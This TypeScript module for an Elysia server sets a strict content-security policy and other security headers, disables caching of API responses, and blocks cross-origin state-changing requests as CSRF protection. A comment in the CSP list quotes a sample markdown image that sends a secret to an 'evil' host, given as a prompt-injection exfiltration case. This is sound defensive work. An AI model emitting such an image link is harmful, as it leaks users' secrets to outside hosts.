/**
 * Security headers on every response, and the CSRF rule: a state-changing request
 * whose Origin is present and is not the app's own is refused with 403.
 */
import { Elysia } from 'elysia';
import { errorBody } from '../errors';

export const CSP = [
  "default-src 'self'",
  "script-src 'self'",
  // Svelte sets style attributes at runtime; scripts stay strict.
  "style-src 'self' 'unsafe-inline'",
  // No remote images: a prompt-injected ![x](https://evil/?q=secret) cannot phone home.
  "img-src 'self' data: blob:",
  "media-src 'self' blob: data:",
  "connect-src 'self'",
  "font-src 'self' data:",
  "worker-src 'self'",
  "manifest-src 'self'",
  "object-src 'none'",
  "base-uri 'self'",
  "form-action 'self'",
  "frame-ancestors 'none'",
].join('; ');

export const SECURITY_HEADERS: Record<string, string> = {
  'content-security-policy': CSP,
  'x-content-type-options': 'nosniff',
  'referrer-policy': 'strict-origin-when-cross-origin',
  'x-frame-options': 'DENY',
  'cross-origin-opener-policy': 'same-origin',
  'permissions-policy': 'camera=(self), microphone=(self), geolocation=()',
};

const SAFE_METHODS = new Set(['GET', 'HEAD', 'OPTIONS']);

/** Adds the headers to a Response we did not build through `set` (static files, errors, streams). */
export function withSecurityHeaders(response: Response): Response {
  for (const [name, value] of Object.entries(SECURITY_HEADERS)) {
    if (!response.headers.has(name)) response.headers.set(name, value);
  }
  return response;
}

export function securityPlugin(publicUrl: string, extraOrigins: string[] = []) {
  const allowed = new Set([publicUrl, ...extraOrigins]);
  return new Elysia({ name: 'security', seed: publicUrl })
    .onRequest(({ request, set }) => {
      Object.assign(set.headers, SECURITY_HEADERS);
      // API answers hold one account's data: no cache (the browser's, a proxy's) keeps them.
      // A route that builds its own Response keeps its own header (each of those says no-store too).
      if (new URL(request.url).pathname.startsWith('/api/')) set.headers['cache-control'] = 'no-store';
      if (SAFE_METHODS.has(request.method)) return;
      const origin = request.headers.get('origin');
      if (origin !== null && !allowed.has(origin)) {
        set.status = 403;
        return new Response(JSON.stringify(errorBody('forbidden_origin', 'Cross-origin request refused')), {
          status: 403,
          headers: { 'content-type': 'application/json; charset=utf-8', ...SECURITY_HEADERS },
        });
      }
    })
    .as('global');
}
